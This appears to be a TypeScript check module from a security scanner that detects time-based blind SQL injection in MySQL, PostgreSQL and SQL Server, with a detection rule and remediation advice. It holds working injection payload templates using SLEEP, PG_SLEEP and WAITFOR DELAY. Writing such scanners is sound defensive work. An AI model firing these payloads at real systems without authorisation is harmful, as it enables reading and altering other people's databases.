import { defineInjection, type Point } from "../../attacks/injection.ts";
import { isNumeric, isScalar } from "../../attacks/insertion-points.ts";
import { examineWaits, mayWait, type Wait } from "../../attacks/waiting.ts";

export default defineInjection({
  id: "input-validation/sql-time",
  title: "SQL injection (time-based blind)",
  severity: "critical",
  confidence: "firm",
  description:
    "The database waits as long as the value says: the value became part of an SQL statement. Attackers can read the database one bit at a time, and often change it.",
  rule: "Four answers to values that ask the database for different waits, in random order, take as long as asked (within 150 ms), and the answers between them, which ask for no wait, take as long as ordinary ones; all of it twice.",
  control: "The same value with a wait of none, after each wait, and ordinary requests.",
  remediation: "Pass values as parameters of prepared statements and check their types before.",
  references: {
    cwe: 89,
    owasp: "API8:2023",
    cvss: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
  },
  cost: 4,
  prior: () => 0.3,
  language: "SQL",
  into: isScalar,
  notApplicable: "No read takes a text or a number.",
  mustExamine: (point, probe) => mayWait(WAITS, point, probe),
  examine: (point, probe) => examineWaits(WAITS, point, probe),
});

const isText = (point: Point): boolean => !isNumeric(point);

// None is true, so that no row is found more; each is a derived table, so that the wait is not one for each row.
const MYSQL = (seconds: string): string => `2=(SELECT 1 FROM (SELECT SLEEP(${seconds}))x)`;
const POSTGRESQL = (seconds: string): string => `2=(SELECT 1 FROM PG_SLEEP(${seconds}))`;
const SQL_SERVER = (seconds: string): string => `;WAITFOR DELAY '0:0:${seconds.padStart(4, "0")}'--`;

const WAITS: readonly Wait[] = [
  { name: "MySQL", payload: (value, seconds) => `${value} OR ${MYSQL(seconds)}`, where: isNumeric },
  { name: "PostgreSQL", payload: (value, seconds) => `${value} OR ${POSTGRESQL(seconds)}`, where: isNumeric },
  { name: "SQL Server", payload: (value, seconds) => value + SQL_SERVER(seconds), where: isNumeric },
  { name: "MySQL", payload: (value, seconds) => `${value}' OR ${MYSQL(seconds)} OR '1'='2`, where: isText },
  {
    name: "PostgreSQL",
    payload: (value, seconds) => `${value}' OR ${POSTGRESQL(seconds)} OR '1'='2`,
    where: isText,
  },
  { name: "SQL Server", payload: (value, seconds) => `${value}'${SQL_SERVER(seconds)}`, where: isText },
];
